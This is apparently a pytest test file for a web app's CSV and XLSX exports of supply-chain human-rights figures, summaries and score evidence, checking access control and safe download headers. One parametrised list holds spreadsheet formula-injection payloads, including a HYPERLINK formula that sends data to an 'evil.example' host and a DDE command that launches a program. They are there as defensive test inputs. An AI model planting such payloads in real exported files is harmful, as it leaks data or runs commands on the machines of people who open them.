"""What officers take away: nothing but what their pages show, and no cell that anything runs."""

import csv
import io
import re
from dataclasses import replace
from typing import Any

import openpyxl
import pytest

from monitoring.overview.company import shown_quarters
from register.particulars import Group, Theme
from register.places import places_of
from register.quarters import Quarter
from register.release import Cell, Release, Thresholds
from register.summary import SummaryState
from tests.house import FACTORY, IMPORTER, QUARRY
from tests.web.company.test_pages import quarter_of_wages, without_isolates
from tests.web.inside_house import OLGA, RIVAL, Inside
from tests.web.sharing import shared, taken_back
from tests.web.visiting import Visiting
from web.company.figures import cells_on_pages

NUMBERS = "/company/register/numbers"
SUMMARIES = "/company/register/summaries.csv"
EVIDENCE = "/company/score/evidence"
FILES = (f"{NUMBERS}.csv", f"{NUMBERS}.xlsx", SUMMARIES, f"{EVIDENCE}.csv", f"{EVIDENCE}.xlsx")


async def taken(visitor: Visiting, base: str, path: str) -> Any:
    """The answer, its body read."""
    answer = await visitor.session.get(base + path, allow_redirects=False)
    await answer.read()
    return answer


async def rows_of(inside: Inside, visitor: Visiting, path: str) -> list[list[str]]:
    """The rows of a CSV file, as a spreadsheet reads them."""
    answer = await taken(visitor, inside.base, path)
    assert answer.status == 200
    body = await answer.read()
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), strict=True))


async def book_of(inside: Inside, visitor: Visiting, path: str) -> Any:
    """The workbook of an XLSX file."""
    answer = await taken(visitor, inside.base, path)
    assert answer.status == 200
    return openpyxl.load_workbook(io.BytesIO(await answer.read()))


async def release_of(inside: Inside, *cells: Cell) -> None:
    """A release of the first quarter with these cells."""
    made = Release(
        organisation_id=IMPORTER.id,
        quarter=Quarter(year=2026, number=1),
        released_on=inside.house.clock.today,
        thresholds=Thresholds(),
        places=places_of((QUARRY, FACTORY)),
        cells=cells,
    )
    await inside.house.database.transaction(lambda tx: tx.releases.put(made))


async def shown_numbers(inside: Inside, quarter: str) -> set[int]:
    """Every number that the page of this quarter may show."""
    views = await inside.house.database.read(
        lambda tx: shown_quarters(tx, IMPORTER.id, (QUARRY, FACTORY), inside.house.clock.today)
    )
    view = next(each for each in views if str(each.quarter) == quarter)
    limits = {number for each in view.limits for number in (each.in_time, each.missed)}
    return {each.number for each in cells_on_pages(view)} | {n for n in limits if n is not None}


async def test_a_file_has_the_numbers_of_the_page_and_no_other_and_hidden_ones_are_empty(
    inside: Inside,
) -> None:
    await quarter_of_wages(inside)
    olga = await inside.signs_in(OLGA.id)
    path = f"{NUMBERS}.csv?quarter=2026-Q3"
    heading, *rows = await rows_of(inside, olga, path)
    assert heading == ["Quarter", "Place", "Theme", "Most affected", "People"]
    numbers = {int(row[4]) for row in rows if row[4]}
    assert 9 in numbers
    assert numbers <= await shown_numbers(inside, "2026-Q3")
    of_quarry = {row[2]: row[4] for row in rows if without_isolates(row[1]) == QUARRY.name}
    assert of_quarry["Living wage"] == "9"
    for hidden in ("Health and safety", "Land rights", "Child labour"):
        assert of_quarry[hidden] == ""
    # A line for each that could be: which there are tells nothing.
    quiet = await rows_of(inside, olga, f"{NUMBERS}.csv?quarter=2026-Q2")
    assert [row[1:4] for row in quiet] == [row[1:4] for row in (heading, *rows)]
    assert not any(row[4] for row in quiet[1:])


async def test_a_workbook_has_the_same_numbers_as_numbers(inside: Inside) -> None:
    await quarter_of_wages(inside)
    olga = await inside.signs_in(OLGA.id)
    book = await book_of(inside, olga, f"{NUMBERS}.xlsx?quarter=2026-Q3")
    assert book.sheetnames == ["By place", "By who is most affected", "Time limits"]
    cells = [
        cell.value
        for sheet in book
        for row in sheet.iter_rows(min_row=2, min_col=2)
        for cell in row
        if cell.value is not None
    ]
    assert 9 in cells
    assert set(cells) <= await shown_numbers(inside, "2026-Q3")
    page = book["By place"]
    columns = {cell.value: cell.column for cell in page[1]}
    row = next(row for row in page.iter_rows(min_row=2) if row[0].value == QUARRY.name)
    assert row[columns["Living wage"] - 1].value == 9
    assert row[columns["Health and safety"] - 1].value is None


async def test_a_released_cell_that_the_page_has_no_place_for_is_in_no_file(inside: Inside) -> None:
    key, wages = f"site:{QUARRY.id}", Theme.LIVING_WAGE
    await release_of(
        inside,
        Cell(place=key, theme=wages, group=Group.MEN, number=7771),
        Cell(place=None, theme=None, group=Group.MEN, number=7772),
        Cell(place=None, theme=wages, group=Group.MEN, number=7773),
    )
    olga = await inside.signs_in(OLGA.id)
    rows = await rows_of(inside, olga, f"{NUMBERS}.csv?quarter=2026-Q1")
    assert [row[4] for row in rows[1:] if row[4]] == ["7773"]
    book = await book_of(inside, olga, f"{NUMBERS}.xlsx?quarter=2026-Q1")
    values = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {value for value in values if isinstance(value, int)} == {7773}


async def test_summaries_are_those_that_reporters_said_yes_to(inside: Inside) -> None:
    olga = await inside.signs_in(OLGA.id)
    await shared(inside, "Not yet offered.", until=SummaryState.DRAFT)
    await shared(inside, "Not yet shared.", until=SummaryState.APPROVED)
    words = 'Wages are paid late,\n"every" month; धूल'
    kept, gone = await shared(inside, words), await shared(inside, "Taken back later.")
    rows = await rows_of(inside, olga, SUMMARIES)
    assert sorted(row[1] for row in rows[1:]) == sorted([words, "Taken back later."])
    await taken_back(inside, gone)
    (row,) = (await rows_of(inside, olga, SUMMARIES))[1:]
    assert row == ["2026-Q3", words]
    assert kept.case_ref not in str(row)
    assert kept.id not in str(row)


FORMULAS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
    "\n=1", " =1+1", "\u00a0=1", "\u2066=1+1\u2069", "\u200b=1", "＝1+1", "＋1", "－1", "＠1",
    "=cmd|' /C calc'!A0",
)  # fmt: skip


@pytest.mark.parametrize("words", FORMULAS)
async def test_no_cell_of_any_file_runs_in_a_spreadsheet(inside: Inside, words: str) -> None:
    olga = await inside.signs_in(OLGA.id)
    await shared(inside, f"{words} CANARY")
    stated = await inside.posts(
        olga, "/company/score/questions/2.2.5", part="2", document=words, stated_by=words,
        day=inside.house.clock.today.isoformat(),
    )  # fmt: skip
    assert stated.status == 200
    for path in (SUMMARIES, f"{EVIDENCE}.csv"):
        for row in await rows_of(inside, olga, path):
            for cell in row:
                assert not re.match("[=+\\-@＝＋－＠\t\r\n]", cell), (path, cell)
                assert not re.match("[\\s\u200b]*[=+@]", cell)
    book = await book_of(inside, olga, f"{EVIDENCE}.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    for cell in cells:
        assert cell.hyperlink is None
        assert not re.match("[=+@\t\r\n]", str(cell.value))


async def test_the_evidence_is_that_of_the_page(inside: Inside) -> None:
    await quarter_of_wages(inside)
    olga = await inside.signs_in(OLGA.id)
    page = without_isolates((await olga.goes("/company/score/print")).text)
    heading, *rows = await rows_of(inside, olga, f"{EVIDENCE}.csv")
    columns = {name: number for number, name in enumerate(heading)}
    assert len({row[columns["Question"]] for row in rows}) > 20
    for row in rows:
        for name in ("Question", "Title", "Part", "Evidence", "Document"):
            assert " ".join(row[columns[name]].removeprefix("'").split()) in page, row
        points, most = row[columns["Points"]], row[columns["Most points"]]
        assert f"{points}/{most}" in page
    book = await book_of(inside, olga, f"{EVIDENCE}.xlsx")
    assert book.sheetnames == ["Score", "Evidence"]
    assert book["Evidence"].max_row == len(rows) + 1
    level = next(row[1].value for row in book["Score"].iter_rows() if row[0].value == "Level")
    assert f"Level {level}" in page


async def test_files_are_handed_over_under_names_that_say_nothing_and_run_nowhere(
    inside: Inside,
) -> None:
    olga = await inside.signs_in(OLGA.id)
    for path in FILES:
        answer = await taken(olga, inside.base, path)
        name = re.fullmatch(
            r'attachment; filename="(numbers|summaries|score)\.(csv|xlsx)"',
            answer.headers["Content-Disposition"],
        )
        assert name is not None, path
        assert answer.headers["Cache-Control"] == "no-store"
        assert answer.headers["Content-Security-Policy"].startswith("sandbox")
        assert answer.headers["Content-Type"] in {
            "text/csv; charset=utf-8",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        }
        # Neither who looked, nor when.
        body = (await answer.read()).decode("utf-8", "replace")
        assert IMPORTER.name not in body
        assert OLGA.name not in body


async def test_every_file_has_a_button_in_the_language_of_the_page(inside: Inside) -> None:
    await shared(inside, "Wages are paid late.")
    olga = await inside.signs_in(OLGA.id)
    register, score = await olga.goes("/company/register"), await olga.goes("/company/score")
    found = re.findall(r'href="([^"?]+)[^"]*" download>', register.html + score.html)
    assert sorted(found) == sorted(FILES)
    for address in re.findall(r'href="([^"]+)" download>', register.html + score.html):
        assert (await taken(olga, inside.base, address)).status == 200
    assert "download>" not in (await olga.goes("/company/score/print")).html


@pytest.mark.parametrize("language", ["en", "nl"])
async def test_a_workbook_can_be_opened_in_each_language_of_the_desk(
    inside: Inside, language: str
) -> None:
    account = replace(inside.accounts[OLGA.id], language=language)
    await inside.house.database.transaction(lambda tx: tx.accounts.put(account))
    olga = await inside.signs_in(OLGA.id)
    for path in (f"{NUMBERS}.xlsx", f"{EVIDENCE}.xlsx"):
        book = await book_of(inside, olga, path)
        assert all(0 < len(name) <= 31 for name in book.sheetnames)
    evidence = book["Evidence" if language == "en" else "Bewijs"]
    assert evidence.max_row > 20


async def test_a_rival_takes_nothing_of_this_company_away(inside: Inside) -> None:
    await quarter_of_wages(inside)
    await shared(inside, "Wages are paid late.")
    rival = await inside.signs_in(RIVAL.id)
    for path in (f"{NUMBERS}.csv?quarter=2026-Q3", SUMMARIES, f"{EVIDENCE}.csv"):
        rows = await rows_of(inside, rival, path)
        for theirs in (QUARRY.name, IMPORTER.name, "paid late"):
            assert theirs not in str(rows)
    for wrong in ("1999-Q1", "2026-Q4", "x", ""):
        answer = await taken(rival, inside.base, f"{NUMBERS}.csv?quarter={wrong}")
        assert answer.status == 404


async def test_who_is_not_signed_in_takes_nothing_away(inside: Inside) -> None:
    for path in FILES:
        answer = await taken(inside.visitor(), inside.base, path)
        assert (answer.status, answer.headers["Location"]) == (303, "/sign-in")
